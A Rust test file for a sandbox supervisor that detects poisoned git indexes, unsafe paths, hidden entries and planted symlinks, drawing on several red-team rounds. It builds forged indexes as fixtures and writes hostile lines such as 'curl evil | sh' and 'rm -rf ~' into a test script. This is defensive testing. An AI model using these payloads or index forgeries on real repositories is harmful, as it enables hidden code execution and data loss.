use super::*;

#[test]
fn paths_that_leave_the_worktree_or_reach_git_state_are_unsafe() {
    for bad in [
        &b"../.bashrc"[..],
        b"a/../../x",
        b"/etc/passwd",
        b".git/hooks/post-checkout",
        b"sub/.GIT/config",
        b"sub/.git\xe2\x80\x8c/config", // HFS+ ignores the zero-width non-joiner
        b"git~1/hooks/x",               // NTFS 8.3 short name of .git
        b"a//b",
        b"./x",
    ] {
        assert!(
            unsafe_path(bad, false).is_some() && unsafe_path(bad, true).is_some(),
            "{:?} passed",
            String::from_utf8_lossy(bad)
        );
    }
    for good in [
        &b"src/main.rs"[..],
        b".github/workflows/ci.yml",
        b".gitignore",
        b"a/.gitkeep",
        b"docs/..md",
        b".gitmodules",
        b"sub/.gitmodules",
    ] {
        assert_eq!(
            unsafe_path(good, false),
            None,
            "{:?} refused",
            String::from_utf8_lossy(good)
        );
    }
    // A symbolic link named `.gitmodules` is what git itself refuses (CVE-2018-11235's kin).
    assert!(unsafe_path(b".gitmodules", true).is_some());
}

#[test]
fn an_index_git_wrote_passes_and_garbage_does_not() {
    let dir = tempfile::tempdir().unwrap();
    let git = |args: &[&str]| git_in(dir.path(), args);
    git(&["init", "-q"]);
    std::fs::write(dir.path().join("f.txt"), "x").unwrap();
    git(&["add", "f.txt"]);
    let index = dir.path().join(".git/index");
    assert_eq!(problem(&index), None);
    std::fs::write(&index, b"DIRC not really").unwrap();
    assert!(problem(&index).is_some());
    std::fs::remove_file(&index).unwrap();
    assert_eq!(
        problem(&index),
        None,
        "a missing index is git's own business"
    );
}

/// pid 1 reads indexes the command controls: a FIFO, a symlink or a missing shared index must
/// be answered at once (a blocking `open` of a FIFO would stop pid 1 guarding the sandbox).
#[test]
fn a_fifo_symlink_or_broken_split_index_is_refused_without_blocking() {
    let dir = tempfile::tempdir().unwrap();
    let git = |args: &[&str]| git_in(dir.path(), args);
    git(&["init", "-q"]);
    git(&["config", "core.splitIndex", "true"]);
    std::fs::write(dir.path().join("f.txt"), "x").unwrap();
    git(&["add", "f.txt"]);
    let index = dir.path().join(".git/index");
    assert_eq!(problem(&index), None, "a split index git wrote passes");
    let shared: Vec<_> = std::fs::read_dir(dir.path().join(".git"))
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with("sharedindex."))
        .map(|e| e.path())
        .collect();
    assert_eq!(shared.len(), 1, "{shared:?}");
    // The shared index replaced by a FIFO: refused, and promptly.
    std::fs::remove_file(&shared[0]).unwrap();
    nix::unistd::mkfifo(&shared[0], nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    let t = std::time::Instant::now();
    assert!(problem(&index).unwrap().contains("shared index"));
    std::fs::remove_file(&shared[0]).unwrap();
    assert!(problem(&index).unwrap().contains("missing"));
    // The index itself a FIFO or a symlink.
    std::fs::remove_file(&index).unwrap();
    nix::unistd::mkfifo(&index, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    assert_eq!(problem(&index).as_deref(), Some("it is not a regular file"));
    std::fs::remove_file(&index).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", &index).unwrap();
    assert!(problem(&index).is_some());
    assert!(
        t.elapsed() < std::time::Duration::from_secs(2),
        "{:?}",
        t.elapsed()
    );
}

/// The supervisor's last look after the sandbox ended: a poisoned index is moved aside; a
/// good one stays.
#[test]
fn the_last_look_moves_a_poisoned_index_aside_and_keeps_a_good_one() {
    let dir = tempfile::tempdir().unwrap();
    let git = |args: &[&str]| git_in(dir.path(), args);
    git(&["init", "-q"]);
    std::fs::write(dir.path().join("AAAAAAAAAA"), "x").unwrap();
    git(&["add", "AAAAAAAAAA"]);
    let gitdir = dir.path().join(".git");
    let since = std::time::SystemTime::now() - std::time::Duration::from_secs(60);
    let before = crate::linux::watch::indexes_before(std::slice::from_ref(&gitdir));
    assert!(!crate::linux::watch::final_index_check(
        std::slice::from_ref(&gitdir),
        since,
        &before
    ));
    assert!(gitdir.join("index").exists());
    let index = gitdir.join("index");
    let mut data = std::fs::read(&index).unwrap();
    let i = data.windows(10).position(|w| w == b"AAAAAAAAAA").unwrap();
    data[i..i + 10].copy_from_slice(b"../.bashrc");
    std::fs::write(&index, &data).unwrap();
    assert!(crate::linux::watch::final_index_check(
        std::slice::from_ref(&gitdir),
        since,
        &before
    ));
    assert!(!index.exists(), "the poisoned index was left");
}

fn git_in(dir: &std::path::Path, args: &[&str]) -> String {
    let out = std::process::Command::new("git")
        .current_dir(dir)
        .args(args)
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The tree cache git itself writes passes (nested directories, an executable, a symlink, a
/// name that sorts between a directory and its contents, an intent-to-add entry); one whose
/// root tree was swapped for another tree is refused.
#[test]
fn a_tree_cache_that_does_not_match_the_entries_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    git_in(d, &["init", "-q"]);
    std::fs::create_dir_all(d.join("a/b")).unwrap();
    std::fs::write(d.join("a/b/c.txt"), "c").unwrap();
    std::fs::write(d.join("a-b"), "x").unwrap();
    std::fs::write(d.join("a.txt"), "y").unwrap();
    std::fs::write(d.join("run.sh"), "#!/bin/sh\n").unwrap();
    std::process::Command::new("chmod")
        .args(["+x"])
        .arg(d.join("run.sh"))
        .status()
        .unwrap();
    std::os::unix::fs::symlink("a.txt", d.join("link")).unwrap();
    git_in(d, &["add", "."]);
    git_in(d, &["write-tree"]);
    let index = d.join(".git/index");
    let state = |p: &std::path::Path| {
        gix_index::State::from_bytes(
            &std::fs::read(p).unwrap(),
            filetime::FileTime::zero(),
            gix_index::hash::Kind::Sha1,
            Default::default(),
        )
        .unwrap()
        .0
    };
    assert!(
        state(&index)
            .tree()
            .is_some_and(|t| t.num_entries.is_some()),
        "git wrote a valid tree cache"
    );
    assert_eq!(problem(&index), None);
    // The root tree's id in the cache replaced by another tree's (the empty tree's).
    let mut data = std::fs::read(&index).unwrap();
    let root = state(&index).tree().unwrap().id;
    let at = data.windows(20).position(|w| w == root.as_bytes()).unwrap();
    let empty = gix_index::hash::ObjectId::empty_tree(gix_index::hash::Kind::Sha1);
    data[at..at + 20].copy_from_slice(empty.as_bytes());
    std::fs::write(&index, &data).unwrap();
    let why = problem(&index).unwrap();
    assert!(why.contains("tree cache for the root"), "{why}");
    // Rebuilt, with an intent-to-add entry (in no tree): fine.
    std::fs::remove_file(&index).unwrap();
    git_in(d, &["add", "."]);
    std::fs::write(d.join("later.txt"), "z").unwrap();
    git_in(d, &["add", "-N", "later.txt"]);
    git_in(d, &["write-tree"]);
    assert_eq!(problem(&index), None);
}

/// A tree cache gix-index cannot decode but git reads (junk after the counts), or one with
/// bytes after it (gix-index asserts on those): refused, never skipped, never a panic
/// (red-team round 14).
#[test]
fn a_tree_cache_gix_cannot_decode_is_refused_not_skipped() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    git_in(d, &["init", "-q"]);
    std::fs::create_dir_all(d.join("d")).unwrap();
    std::fs::write(d.join("a.txt"), "a").unwrap();
    std::fs::write(d.join("d/x"), "x").unwrap();
    git_in(d, &["add", "."]);
    git_in(d, &["write-tree"]);
    let index = d.join(".git/index");
    // Version 4 (prefix-compressed paths) is walked too.
    git_in(d, &["update-index", "--index-version", "4"]);
    assert_eq!(problem(&index), None);
    git_in(d, &["update-index", "--index-version", "2"]);
    git_in(d, &["write-tree"]);
    let good = std::fs::read(&index).unwrap();
    assert_eq!(problem(&index), None);
    assert!(extension_names(&good).unwrap().contains(b"TREE"));
    let at = good.windows(4).rposition(|w| w == b"TREE").unwrap();
    let size = u32::from_be_bytes(good[at + 4..at + 8].try_into().unwrap()) as usize;
    let body = &good[at + 8..at + 8 + size];
    let rebuilt = |new_body: &[u8]| {
        let mut v = good[..at + 4].to_vec();
        v.extend_from_slice(&(new_body.len() as u32).to_be_bytes());
        v.extend_from_slice(new_body);
        v.extend_from_slice(&good[at + 8 + size..]);
        v
    };
    // Junk after the root's counts: git's strtol stops at it, gix-index gives up.
    let nl = body.iter().position(|b| *b == b'\n').unwrap();
    let mut junk = body[..nl].to_vec();
    junk.extend_from_slice(b" x");
    junk.extend_from_slice(&body[nl..]);
    std::fs::write(&index, rebuilt(&junk)).unwrap();
    let why = problem(&index).unwrap();
    assert!(why.contains("tree cache"), "{why}");
    // Bytes after the tree cache.
    let mut trailing = body.to_vec();
    trailing.extend_from_slice(b"zz");
    std::fs::write(&index, rebuilt(&trailing)).unwrap();
    assert!(problem(&index).is_some());
    // Garbage where the extensions should end.
    let mut cut = good.clone();
    cut.insert(at, b'!');
    std::fs::write(&index, &cut).unwrap();
    assert!(problem(&index).is_some());
}

/// The SHA-1 checksum git ends an index with.
fn seal(body: &[u8]) -> Vec<u8> {
    let mut hasher = gix_index::hash::hasher(gix_index::hash::Kind::Sha1);
    hasher.update(body);
    let mut out = body.to_vec();
    out.extend_from_slice(hasher.try_finalize().unwrap().as_bytes());
    out
}

fn ext(sig: &[u8; 4], payload: &[u8]) -> Vec<u8> {
    let mut out = sig.to_vec();
    out.extend_from_slice(&u32::try_from(payload.len()).unwrap().to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// A version 2 index entry for `path` (mode 100644 or 100755, object `oid`).
fn entry(path: &str, mode: u32, oid: [u8; 20]) -> Vec<u8> {
    let mut e = vec![0u8; 24];
    e.extend_from_slice(&mode.to_be_bytes());
    e.extend_from_slice(&[0u8; 12]);
    e.extend_from_slice(&oid);
    e.extend_from_slice(&u16::try_from(path.len()).unwrap().to_be_bytes());
    e.extend_from_slice(path.as_bytes());
    let pad = 8 - e.len() % 8;
    e.extend(std::iter::repeat_n(0u8, pad));
    e
}

/// An index git wrote for threaded readers (`EOIE` and `IEOT`, versions 2 and 4) passes;
/// the records describing anything but the one-pass layout are refused.
#[test]
fn an_index_for_threaded_readers_must_say_what_a_one_pass_reader_sees() {
    for version in ["2", "4"] {
        let dir = tempfile::tempdir().unwrap();
        let git = |args: &[&str]| git_in(dir.path(), args);
        git(&["init", "-q"]);
        for i in 0..60 {
            std::fs::write(dir.path().join(format!("dir{}/f{i}", i % 3)), "x")
                .or_else(|_| {
                    std::fs::create_dir_all(dir.path().join(format!("dir{}", i % 3)))?;
                    std::fs::write(dir.path().join(format!("dir{}/f{i}", i % 3)), "x")
                })
                .unwrap();
        }
        git(&[
            "-c",
            "index.threads=2",
            "-c",
            "index.recordEndOfIndexEntries=true",
            "-c",
            "index.recordOffsetTable=true",
            "-c",
            &format!("index.version={version}"),
            "add",
            ".",
        ]);
        let index = dir.path().join(".git/index");
        let good = std::fs::read(&index).unwrap();
        let names = extension_names(&good).unwrap();
        assert!(
            names.contains(b"EOIE") && names.contains(b"IEOT"),
            "{names:?}"
        );
        assert_eq!(problem(&index), None, "version {version}");
        let body = &good[..good.len() - 20];
        let at = |sig: &[u8]| body.windows(4).rposition(|w| w == sig).unwrap();
        // EOIE naming another start of the extensions.
        let mut bad = body.to_vec();
        let eoie = at(b"EOIE") + 8;
        let off = u32::from_be_bytes(bad[eoie..eoie + 4].try_into().unwrap());
        bad[eoie..eoie + 4].copy_from_slice(&(off + 8).to_be_bytes());
        std::fs::write(&index, seal(&bad)).unwrap();
        let why = problem(&index).expect("a moved EOIE offset passed");
        assert!(why.contains("EOIE"), "{why}");
        // IEOT: a block that starts elsewhere than at an entry.
        let mut bad = body.to_vec();
        let ieot = at(b"IEOT") + 8 + 4;
        let off = u32::from_be_bytes(bad[ieot..ieot + 4].try_into().unwrap());
        bad[ieot..ieot + 4].copy_from_slice(&(off + 8).to_be_bytes());
        std::fs::write(&index, seal(&bad)).unwrap();
        let why = problem(&index).expect("a moved IEOT block passed");
        assert!(why.contains("IEOT"), "{why}");
    }
}

/// Red-team round 15: entries and a chain of extensions hidden in an `IEOT` payload, which a
/// one-pass reader skips and git with `index.threads` reads instead (through `EOIE`).
#[test]
fn entries_hidden_where_only_threaded_git_reads_them_are_refused() {
    let benign = entry("README", 0o100644, [1; 20]);
    let evil = entry(".git/hooks/pre-commit", 0o100755, [2; 20]);
    let mut head = b"DIRC".to_vec();
    head.extend_from_slice(&2u32.to_be_bytes());
    head.extend_from_slice(&1u32.to_be_bytes());
    let entries_end = head.len() + benign.len();
    let hidden_at = entries_end + 8;
    let mut inner_table = 1u32.to_be_bytes().to_vec();
    inner_table.extend_from_slice(&u32::try_from(hidden_at).unwrap().to_be_bytes());
    inner_table.extend_from_slice(&1u32.to_be_bytes());
    let inner = ext(b"IEOT", &inner_table);
    let threaded_start = hidden_at + evil.len();
    let mut outer_payload = evil.clone();
    outer_payload.extend_from_slice(&inner);
    let outer = ext(b"IEOT", &outer_payload);
    let mut hasher = gix_index::hash::hasher(gix_index::hash::Kind::Sha1);
    hasher.update(b"IEOT");
    hasher.update(&u32::try_from(inner_table.len()).unwrap().to_be_bytes());
    let mut eoie = u32::try_from(threaded_start)
        .unwrap()
        .to_be_bytes()
        .to_vec();
    eoie.extend_from_slice(hasher.try_finalize().unwrap().as_bytes());
    let mut body = head;
    body.extend_from_slice(&benign);
    body.extend_from_slice(&outer);
    body.extend_from_slice(&ext(b"EOIE", &eoie));
    let dir = tempfile::tempdir().unwrap();
    let index = dir.path().join("index");
    std::fs::write(&index, seal(&body)).unwrap();
    let why = problem(&index).expect("the two-view index passed");
    assert!(why.contains("EOIE") || why.contains("IEOT"), "{why}");
}

/// Red-team round 16: an index entry with the stat data of a file of other content (or marked
/// assume-valid) hides the change from `git status`; the files changed during the run are
/// checked against their entries at the end. Files changed before the run are not looked at.
#[test]
fn an_entry_that_hides_a_changed_file_is_found() {
    let dir = tempfile::tempdir().unwrap();
    let git = |args: &[&str]| git_in(dir.path(), args);
    git(&["init", "-q"]);
    std::fs::write(dir.path().join("build.sh"), "echo good\n").unwrap();
    git(&["add", "build.sh"]);
    let index = dir.path().join(".git/index");
    let good = std::fs::read(&index).unwrap();
    let since = std::time::SystemTime::now();
    assert_eq!(
        hidden_change(&index, dir.path(), since, 1 << 30, None),
        None
    );
    // The command: new content, `git add`, then the old blob id put back in the entry.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    std::fs::write(dir.path().join("build.sh"), "curl evil | sh\n").unwrap();
    git(&["add", "build.sh"]);
    let mut forged = std::fs::read(&index).unwrap();
    let old_id = &good[12 + 40..12 + 60];
    forged[12 + 40..12 + 60].copy_from_slice(old_id);
    let n = forged.len() - 20;
    let mut hasher = gix_index::hash::hasher(gix_index::hash::Kind::Sha1);
    hasher.update(&forged[..n]);
    let sum = hasher.try_finalize().unwrap();
    forged[n..].copy_from_slice(sum.as_bytes());
    std::fs::write(&index, &forged).unwrap();
    let why =
        hidden_change(&index, dir.path(), since, 1 << 30, None).expect("the forged entry passed");
    assert!(why.contains("build.sh"), "{why}");
    // The honest index of the new content passes; so does a file changed before the run.
    git(&["add", "build.sh"]);
    git(&["update-index", "--really-refresh"]);
    assert_eq!(
        hidden_change(&index, dir.path(), since, 1 << 30, None),
        None
    );
    std::fs::write(&index, &forged).unwrap();
    let later = std::time::SystemTime::now() + std::time::Duration::from_secs(5);
    assert_eq!(
        hidden_change(&index, dir.path(), later, 1 << 30, None),
        None
    );
    // Assume-valid on a changed file hides it too.
    git(&["add", "build.sh"]);
    git(&["update-index", "--assume-unchanged", "build.sh"]);
    std::fs::write(dir.path().join("build.sh"), "rm -rf ~\n").unwrap();
    assert!(hidden_change(&index, dir.path(), since, 1 << 30, None).is_some());
}

/// Red-team round 18: the entry of a file the command never touched pointed at another blob,
/// with the file's own stat data (or an assume-unchanged mark): `git status` stayed clean and
/// the next `git commit -a` carried the hidden blob. Entries the run changed are checked
/// whatever the file's ctime; the same entry found before the run is the user's own.
#[test]
fn an_entry_the_run_pointed_at_another_blob_is_found() {
    let dir = tempfile::tempdir().unwrap();
    let git = |args: &[&str]| git_in(dir.path(), args);
    git(&["init", "-q"]);
    std::fs::write(dir.path().join("build.sh"), "echo safe\n").unwrap();
    git(&["add", "build.sh"]);
    let index = dir.path().join(".git/index");
    // The file is old by the time the run starts: only the index is written during it.
    std::thread::sleep(std::time::Duration::from_millis(2100));
    let before = std::fs::read(&index).unwrap();
    let since = std::time::SystemTime::now();
    std::fs::write(dir.path().join("evil"), "echo safe\ncurl evil | sh\n").unwrap();
    let evil = git_in(dir.path(), &["hash-object", "-w", "evil"]);
    std::fs::remove_file(dir.path().join("evil")).unwrap();
    let evil = gix_index::hash::ObjectId::from_hex(evil.trim().as_bytes()).unwrap();
    // The entry keeps the file's stat data; only its blob id changes.
    let mut forged = before.clone();
    forged[12 + 40..12 + 60].copy_from_slice(evil.as_bytes());
    let n = forged.len() - 20;
    let mut hasher = gix_index::hash::hasher(gix_index::hash::Kind::Sha1);
    hasher.update(&forged[..n]);
    let sum = hasher.try_finalize().unwrap();
    forged[n..].copy_from_slice(sum.as_bytes());
    std::fs::write(&index, &forged).unwrap();
    let why = hidden_change(&index, dir.path(), since, 1 << 30, Some(&before))
        .expect("the entry pointed at another blob passed");
    assert!(why.contains("build.sh"), "{why}");
    // Unknown before (written in place, or no index): every trusted entry is checked.
    assert!(hidden_change(&index, dir.path(), since, 1 << 30, None).is_some());
    // Found so before the run: the user's own state, not looked at.
    assert_eq!(
        hidden_change(&index, dir.path(), since, 1 << 30, Some(&forged)),
        None
    );
    // The assume-unchanged variant: a new blob for the entry, the file untouched.
    std::fs::write(&index, &before).unwrap();
    git(&[
        "update-index",
        "--cacheinfo",
        &format!("100644,{evil},build.sh"),
    ]);
    git(&["update-index", "--assume-unchanged", "build.sh"]);
    let why = hidden_change(&index, dir.path(), since, 1 << 30, Some(&before))
        .expect("the assume-unchanged entry passed");
    assert!(why.contains("build.sh"), "{why}");
    // An honest index written during the run passes.
    git(&["update-index", "--no-assume-unchanged", "build.sh"]);
    git(&["add", "build.sh"]);
    assert_eq!(
        hidden_change(&index, dir.path(), since, 1 << 30, Some(&before)),
        None
    );
}

/// Red-team round 17: 200 000 files made elsewhere in a git dir used up the count of entries
/// looked through, and a symbolic link planted in `logs/` after them (the host's git appends
/// reflog lines through it) went unseen. `logs/` has a budget of its own.
#[test]
fn a_link_in_logs_is_found_whatever_else_the_git_dir_holds() {
    let dir = tempfile::tempdir().unwrap();
    let git = |args: &[&str]| git_in(dir.path(), args);
    git(&["init", "-q"]);
    let gitdir = dir.path().join(".git");
    let before = crate::linux::watch::git_symlinks(std::slice::from_ref(&gitdir));
    let pad = gitdir.join("zz1");
    std::fs::create_dir_all(&pad).unwrap();
    for i in 0..200_010 {
        std::fs::write(pad.join(format!("{i}")), "").unwrap();
    }
    std::fs::create_dir_all(gitdir.join("logs/refs")).unwrap();
    std::os::unix::fs::symlink("/tmp/victim", gitdir.join("logs/refs/stash")).unwrap();
    assert!(crate::linux::watch::final_symlink_check(
        std::slice::from_ref(&gitdir),
        &before
    ));
    assert!(std::fs::symlink_metadata(gitdir.join("logs/refs/stash")).is_err());
}
